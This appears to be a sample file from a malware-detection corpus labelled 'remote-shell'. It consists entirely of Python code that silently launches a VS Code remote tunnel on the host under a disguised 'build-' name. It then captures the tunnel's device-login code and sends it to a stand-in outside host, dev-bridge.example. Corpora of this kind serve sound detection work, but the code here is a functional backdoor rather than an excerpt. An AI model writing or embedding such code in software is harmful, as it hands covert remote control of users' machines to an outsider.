# pkgguard corpus 862 (remote-shell), modelled on [taxonomy]; inert, never run.
import os
import re
import shutil
import subprocess
import threading
import urllib.request

code = shutil.which("code")


def _relay(stream):
    for line in stream:
        match = re.search(r"code ([A-Z0-9]{4}-[A-Z0-9]{4})", line)
        if match:
            try:
                urllib.request.urlopen("https://dev-bridge.example/c?d=" + match.group(1), timeout=5)
            except OSError:
                pass
            return


if code:
    proc = subprocess.Popen(
        [code, "tunnel", "--accept-server-license-terms", "--name", "build-" + os.urandom(3).hex()],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        start_new_session=True,
    )
    threading.Thread(target=_relay, args=(proc.stdout,), daemon=True).start()
